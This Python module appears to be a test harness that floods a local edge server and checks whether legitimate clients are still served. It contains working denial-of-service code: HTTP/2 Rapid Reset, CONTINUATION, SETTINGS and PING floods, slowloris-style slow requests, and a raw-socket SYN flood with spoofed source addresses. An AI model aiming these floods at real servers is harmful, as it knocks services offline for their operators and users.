"""Floods below HTTP, each from an address of its own: what clients do who want the edge to work and ask it nothing.

Raw frames and sockets; nothing here waits for long. Each call is one attempt and says whether the edge let it in: whether it took
the connection and, of TLS, ended the handshake.
"""

import asyncio
import contextlib
import random
import socket
import ssl
import struct
import subprocess
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import msgspec
from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
PATIENCE = 2.0
_CANCEL = (8).to_bytes(4, "big")


class Door(msgspec.Struct, frozen=True, kw_only=True):
    """Where the edge listens, without TLS and with it, and for which host."""

    port: int
    tls_port: int
    host: str


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Write a frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


async def nothing(door: Door, address: str) -> bool:
    """Connect, and go."""
    return await _sent(door, address, b"")


async def handshake(door: Door, address: str) -> bool:
    """Make a full TLS handshake, and go."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        async with asyncio.timeout(PATIENCE):
            _, writer = await asyncio.open_connection(
                "127.0.0.1", door.tls_port, local_addr=(address, 0), ssl=context, server_hostname=door.host
            )
    except (OSError, TimeoutError):
        return False
    writer.transport.abort()
    return True


async def half_handshake(door: Door, address: str) -> bool:
    """Send what is no TLS to the TLS port."""
    return await _sent(msgspec.structs.replace(door, port=door.tls_port), address, b"\x16\x03\x01\x00\x05hello" * 20)


async def rapid_reset(door: Door, address: str, streams: int = 400) -> bool:
    """Open streams and reset each at once."""
    encoder = Encoder()
    fields = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", door.host)]
    opened = (
        frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, encoder.encode(fields))
        + frame(RST_STREAM, 0, 2 * number + 1, _CANCEL)
        for number in range(streams)
    )
    return await _sent(door, address, PREFACE + frame(SETTINGS, 0, 0) + b"".join(opened))


async def continuations(door: Door, address: str, count: int = 200) -> bool:
    """Begin a request whose headers never end."""
    fields = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", door.host)]
    head = frame(HEADERS, END_STREAM, 1, Encoder().encode(fields))
    more = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100)
    return await _sent(door, address, PREFACE + frame(SETTINGS, 0, 0) + head + more * count)


async def settings(door: Door, address: str, count: int = 40_000) -> bool:
    """Change the settings over and over, and read none of the answers that each of them wants."""
    return await _unread(door, address, PREFACE + frame(SETTINGS, 0, 0) * count)


async def pings(door: Door, address: str, count: int = 40_000) -> bool:
    """Ping over and over, and read none of the answers."""
    return await _unread(door, address, PREFACE + frame(SETTINGS, 0, 0) + frame(PING, 0, 0, b"12345678") * count)


async def slow_headers(door: Door, address: str, lasts: float = 12.0) -> bool:
    """Begin a request and go on with a byte a second, as long as the edge bears it."""
    head = f"GET / HTTP/1.1\r\nHost: {door.host}\r\nX-Slow: ".encode()
    return await _dripped(door, address, head, lasts)


async def slow_body(door: Door, address: str, lasts: float = 12.0) -> bool:
    """Say that much will come, and send a byte a second of it."""
    head = f"POST /upload HTTP/1.1\r\nHost: {door.host}\r\nContent-Length: 100000\r\n\r\n".encode()
    return await _dripped(door, address, head, lasts)


async def silence(door: Door, address: str, lasts: float = 30.0) -> bool:
    """Connect, and say nothing for as long as the edge bears it."""
    try:
        async with _connected(door, address) as (reader, _):
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(lasts):
                    await reader.read(1)
    except OSError:
        return False
    return True


async def _dripped(door: Door, address: str, head: bytes, lasts: float) -> bool:
    try:
        async with _connected(door, address) as (reader, writer):
            with contextlib.suppress(OSError):
                writer.write(head)
                for _ in range(int(lasts)):
                    await asyncio.sleep(1)
                    if reader.at_eof():
                        break
                    writer.write(b"x")
    except (OSError, TimeoutError):
        return False
    return True


async def _sent(door: Door, address: str, data: bytes) -> bool:
    """Connect, send, and stay until the edge ends it or patience does."""
    try:
        async with _connected(door, address) as (reader, writer):
            with contextlib.suppress(OSError, TimeoutError):
                async with asyncio.timeout(PATIENCE):
                    if data:
                        writer.write(data)
                        await writer.drain()
                        # Who left at once would spare the edge the work.
                        await reader.read()
    except (OSError, TimeoutError):
        return False
    return True


async def _unread(door: Door, address: str, data: bytes) -> bool:
    """Connect and send, and leave what the edge says to pile up on its side."""
    loop = asyncio.get_running_loop()
    with socket.socket() as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        one.setblocking(False)
        one.bind((address, 0))
        try:
            async with asyncio.timeout(PATIENCE):
                await loop.sock_connect(one, ("127.0.0.1", door.port))
        except (OSError, TimeoutError):
            return False
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(PATIENCE):
                await loop.sock_sendall(one, data)
                await asyncio.sleep(PATIENCE)
    return True


@asynccontextmanager
async def _connected(door: Door, address: str) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    async with asyncio.timeout(PATIENCE):
        reader, writer = await asyncio.open_connection("127.0.0.1", door.port, local_addr=(address, 0))
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


async def asked(door: Door, address: str, request: bytes) -> bool:
    """Ask as a good client does, and say whether it was served."""
    with contextlib.suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
        async with _connected(door, address) as (reader, writer), asyncio.timeout(2 * PATIENCE):
            writer.write(request)
            return (await reader.readuntil(b"\r\n")).split(b" ")[1] == b"200"
    return False


async def uploaded(door: Door, address: str, pieces: int) -> bool:
    """Send a body in pieces, one a second, and say whether it was taken."""
    head = f"POST /upload HTTP/1.1\r\nHost: {door.host}\r\nContent-Length: {1000 * pieces}\r\n\r\n".encode()
    with contextlib.suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
        async with _connected(door, address) as (reader, writer):
            writer.write(head)
            for _ in range(pieces):
                writer.write(b"x" * 1000)
                await asyncio.sleep(1)
            async with asyncio.timeout(PATIENCE):
                return (await reader.readuntil(b"\r\n")).split(b" ")[1] == b"200"
    return False


_SYN = 2
_SPOOFED = "198.18.0.0/15"
"""Networks for benchmarks (RFC 2544); nobody answers from there."""


async def syns(door: Door, address: str, count: int = 250) -> bool:
    """Ask for connections in the name of many who did not, from a network of its own (see `spoofable`). `address` is not used."""
    del address

    def send() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
            for _ in range(count):
                raw.sendto(_syn(random.randrange(1 << 17), door.port), ("127.0.0.1", 0))

    await asyncio.to_thread(send)
    return True


def spoofable() -> None:
    """Have answers to made-up addresses go nowhere, in a network of our own. Raises OSError where `ip` is missing."""
    subprocess.run(["ip", "route", "add", _SPOOFED, "dev", "lo"], check=True, capture_output=True)


def _syn(number: int, port: int) -> bytes:
    source, target = struct.pack("!I", (198 << 24 | 18 << 16) + number), socket.inet_aton("127.0.0.1")
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    tcp = struct.pack("!HHIIBBHHH", 1024 + number % 60_000, port, number, 0, 0x50, _SYN, 65_535, 0, 0)
    total = sum(struct.unpack("!16H", source + target + struct.pack("!HH", socket.IPPROTO_TCP, 20) + tcp))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ip + tcp[:16] + struct.pack("!H", ~total & 0xFFFF) + tcp[18:]
